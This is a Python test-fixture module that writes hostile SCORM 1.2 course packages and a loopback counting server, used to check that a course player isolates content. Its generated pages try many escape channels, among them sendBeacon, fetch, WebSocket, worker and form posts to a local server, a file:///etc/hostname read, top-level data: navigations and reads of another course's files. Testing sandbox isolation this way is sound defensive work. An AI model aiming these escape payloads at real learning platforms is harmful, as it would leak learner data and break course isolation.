"""Crafted hostile SCORM 1.2 packages for the content-isolation tests (tests/test_isolation_*.py), written by code.

Each package is one SCO that tries to escape its course and reports what happened on the console as one line
"<TAG> {json}" before it calls LMSFinish (so the player ends the course):
- `network_course`: every channel content has to a server (fetch, XHR, img, script, WebSocket, sendBeacon,
  EventSource, CSS link/@import/url()/font, iframe, form, object, prefetch, media, worker, window.open, scripted
  clicks, top-level navigations to http:, data:, file:) aimed at a loopback server; tag ISO-NET.
- `secret_course`: the course the others try to read; its files log "SECRET-..." if they ever run elsewhere.
- `cross_course`: fetches, scripts, frames and navigations aimed at another course's host; and its own missing
  files, whose refusals must end (tag ISO-CROSS).
- `links_page`: a plain page with links to an outside address, for clicks by a (simulated) learner.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="{ident}" version="1.0" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2"
          xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="ORG"><organization identifier="ORG"><title>{title}</title>
    <item identifier="ITEM" identifierref="RES"><title>{title}</title></item>
  </organization></organizations>
  <resources><resource identifier="RES" type="webcontent" adlcp:scormtype="sco" href="index.html">
    {files}
  </resource></resources>
</manifest>
"""

#: Finds the 1.2 API, initializes, and offers `report(tag, obj)` (console line, then LMSFinish unless told to stay).
_SCO_JS = """
function findAPI(w) { for (var i = 0; w && i < 50; i++) { if (w.API) return w.API; if (w === w.parent) break;
  w = w.parent; } return (window.opener && window.opener.API) || null; }
var API = findAPI(window);  // null when the page is loaded outside the player
if (API) API.LMSInitialize("");
function report(tag, obj, stay) {
  console.log(tag + " " + JSON.stringify(obj));
  if (!stay && API) { API.LMSSetValue("cmi.core.lesson_status", "completed"); API.LMSCommit(""); API.LMSFinish(""); }
}
function settle(p, ms) {  // "timeout" when a promise never settles: the failure the issue found
  return Promise.race([p, new Promise(function (res) { setTimeout(function () { res("timeout"); }, ms); })]);
}
"""


def _write(dest: Path, ident: str, title: str, files: dict[str, str]) -> Path:
    dest.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (dest / name).parent.mkdir(parents=True, exist_ok=True)
        (dest / name).write_text(text, encoding="utf-8")
    listed = "\n    ".join(f'<file href="{n}"/>' for n in files)
    (dest / "imsmanifest.xml").write_text(_MANIFEST.format(ident=ident, title=title, files=listed), encoding="utf-8")
    return dest


def network_course(dest: Path, port: int, title: str = "Network escape") -> Path:
    """A SCO that tries every way to reach http://127.0.0.1:<port>/<channel> (and ws:, data:, file:)."""
    base = f"http://127.0.0.1:{port}"
    index = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="{base}/css-link">
<link rel="prefetch" href="{base}/prefetch">
<link rel="icon" href="{base}/favicon">
<style>@import url("{base}/css-import"); body {{ background: url("{base}/css-bg"); }}
@font-face {{ font-family: leak; src: url("{base}/font"); }} .f {{ font-family: leak; }}</style>
</head><body><span class="f">text</span>
<img src="{base}/img" alt="">
<video src="{base}/video" muted autoplay></video>
<iframe src="{base}/iframe"></iframe>
<object data="{base}/object"></object>
<form id="form" method="POST" action="{base}/form" target="sink"><input name="a" value="b"></form>
<iframe name="sink"></iframe>
<iframe src="nav.html"></iframe>
<script src="{base}/script"></script>
<script>{_SCO_JS}
var BASE = {json.dumps(base)}, out = {{}};
function note(k) {{ return function (v) {{ out[k] = String(v); }}; }}
settle(fetch(BASE + "/fetch").then(function (r) {{ return r.text().then(function (t) {{ return "ok:" + r.status + ":" + t; }}); }},
  function (e) {{ return "error"; }}), 3000).then(note("fetch"));
settle(fetch(BASE + "/fetch-nocors", {{mode: "no-cors"}}).then(function () {{ return "ok"; }}, function () {{ return "error"; }}),
  3000).then(note("fetch-nocors"));
var x = new XMLHttpRequest(); x.open("GET", BASE + "/xhr"); x.onloadend = function () {{ out.xhr = String(x.status); }}; x.send();
try {{ var ws = new WebSocket("ws://127.0.0.1:{port}/ws"); ws.onopen = function () {{ out.ws = "open"; }};
  ws.onerror = function () {{ out.ws = "error"; }}; }} catch (e) {{ out.ws = "throw"; }}
out.beacon = String(navigator.sendBeacon(BASE + "/beacon", "data"));
var es = new EventSource(BASE + "/events"); es.onopen = function () {{ out.es = "open"; }};
es.onerror = function () {{ out.es = out.es || "error"; es.close(); }};
var worker = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(BASE + "/worker") +
  ").then(function () {{ postMessage('ok'); }}, function () {{ postMessage('error'); }});"])));
worker.onmessage = function (e) {{ out.worker = e.data; }};
try {{ document.getElementById("form").submit(); }} catch (e) {{}}
var w = window.open(BASE + "/window-open"); out["window.open"] = String(!!w);
window.open("data:text/html;base64," + btoa("<script>console.log('ESCAPED' + '-RAN window'); location='" + BASE +
  "/data-window'<\\/script>"));
["_blank", "_top", "_self"].forEach(function (target) {{
  var a = document.createElement("a"); a.href = BASE + "/click" + target; a.target = target;
  document.body.appendChild(a); if (target !== "_self") a.click(); }});
settle(fetch("file:///etc/hostname").then(function () {{ return "ok"; }}, function () {{ return "error"; }}), 3000).then(note("file"));
setTimeout(function () {{ report("ISO-NET", out); }}, 3500);
</script></body></html>"""
    nav = f"""<!DOCTYPE html><html><body><script>
// The marker is split in the source, so it shows on the console only if the data: page really runs.
var escaped = "data:text/html;base64," + btoa("<script>console.log('ESCAPED' + '-RAN top')<\\/script>");
setTimeout(function () {{ try {{ top.location.href = escaped; }} catch (e) {{}} }}, 300);
setTimeout(function () {{ try {{ top.location.href = {json.dumps(base + "/top-location")}; }} catch (e) {{}} }}, 600);
setTimeout(function () {{ location.href = {json.dumps(base + "/frame-location")}; }}, 900);
</script></body></html>"""
    return _write(dest, f"crafted.isolation.network.{port}", title, {"index.html": index, "nav.html": nav})


def secret_course(dest: Path, stay: bool = False, title: str = "Secret course") -> Path:
    """The course others try to read: secret.js and secret.html say so on the console if they ever run.
    `stay`: the SCO never finishes (the course stays open in its player)."""
    index = f"""<!DOCTYPE html><html><body>secret<script>{_SCO_JS}
report("SECRET-OPEN", {{href: location.href}}, {json.dumps(stay)});</script></body></html>"""
    js = 'console.log("SECRET-SCRIPT-RAN in " + location.href); window.SECRET_RAN = true;\n'
    html = '<!DOCTYPE html><html><body><script>console.log("SECRET-PAGE-RAN in " + location.href)</script></body></html>\n'
    return _write(dest, "crafted.isolation.secret" + ("-stay" if stay else ""), title,
                  {"index.html": index, "secret.js": js, "secret.html": html})


def cross_course(dest: Path, target_host: str, title: str = "Cross-course reader") -> Path:
    """A SCO that reaches for `course://<target_host>/...`, and for its own missing files."""
    other = f"course://{target_host}"
    index = f"""<!DOCTYPE html><html><body><script>{_SCO_JS}
var OTHER = {json.dumps(other)}, out = {{}};
function probe(url) {{
  return settle(fetch(url).then(function (r) {{
    return settle(r.text(), 3000).then(function (t) {{ return t === "timeout" ? "status:" + r.status + ":body-never-ends"
      : "status:" + r.status + ":" + t.length; }}); }}, function () {{ return "error"; }}), 3000);
}}
var jobs = [
  probe(OTHER + "/pkg/imsmanifest.xml").then(function (v) {{ out.manifest = v; }}),
  probe(OTHER + "/pkg/secret.js").then(function (v) {{ out.secretjs = v; }}),
  probe(OTHER + "/__player__/player.html").then(function (v) {{ out.player = v; }}),
  probe("course://c999999/pkg/index.html").then(function (v) {{ out.unknown = v; }}),
  probe("missing.json").then(function (v) {{ out.missing = v; }}),
  probe("index.html").then(function (v) {{ out.own = v; }}),
];
var s = document.createElement("script"); s.src = OTHER + "/pkg/secret.js";
s.onload = function () {{ out.script = "loaded"; }}; s.onerror = function () {{ out.script = "error"; }};
document.body.appendChild(s);
var f = document.createElement("iframe"); f.src = OTHER + "/pkg/secret.html"; document.body.appendChild(f);
var x = new XMLHttpRequest(); x.open("GET", OTHER + "/pkg/imsmanifest.xml");
x.onloadend = function () {{ out.xhr = x.status + ":" + x.responseText.length; }}; x.send();
window.open(OTHER + "/pkg/secret.html");
Promise.all(jobs).then(function () {{ setTimeout(function () {{ out.ran = !!window.SECRET_RAN; report("ISO-CROSS", out); }},
  1500); }});
</script></body></html>"""
    return _write(dest, f"crafted.isolation.cross.{target_host}", title, {"index.html": index})


def links_page(dest: Path, port: int) -> Path:
    """A page (not a package) with two big links to http://127.0.0.1:<port>/ (a new window; the same frame), a
    button that calls window.open, and a scripted click made at load (no learner involved)."""
    base = f"http://127.0.0.1:{port}"
    dest.mkdir(parents=True, exist_ok=True)
    (dest / "links.html").write_text(f"""<!DOCTYPE html><html><body style="margin:0">
<a href="{base}/new-window" target="_blank" style="display:block;height:150px;background:#cde">new window</a>
<a href="{base}/same-frame" style="display:block;height:150px;background:#dec">same frame</a>
<button onclick="window.open('{base}/button')" style="display:block;width:100%;height:150px">button</button>
<script>
var a = document.createElement("a"); a.href = "{base}/scripted"; a.target = "_blank"; document.body.appendChild(a);
a.click(); window.open("{base}/scripted-open"); console.log("LINKS-READY");
</script></body></html>""", encoding="utf-8")
    return dest / "links.html"


class CountingServer:
    """A loopback HTTP server on 127.0.0.1 (a free port) that records every request (method, path) and every TCP
    connection; it answers 200 "pong" to anyone (CORS allowed), so a request that is let through succeeds.
    Bounded: daemon thread, 2 s socket time-out, stopped by `close()`."""

    def __init__(self) -> None:
        self.hits: list[tuple[str, str]] = []
        self.connections = 0
        outer = self

        class Handler(BaseHTTPRequestHandler):
            timeout = 2

            def _answer(self) -> None:
                outer.hits.append((self.command, self.path))
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(min(length, 1 << 16))
                body = b"data: x\n\n" if self.path == "/events" else b"pong"
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/event-stream" if self.path == "/events" else "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = do_PUT = _answer

            def log_message(self, *args) -> None:
                pass

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def verify_request(self, request, client_address) -> bool:
                outer.connections += 1
                return True

        self._server = Server(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
        self._thread.start()

    @property
    def paths(self) -> set[str]:
        return {path for _method, path in self.hits}

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=5)
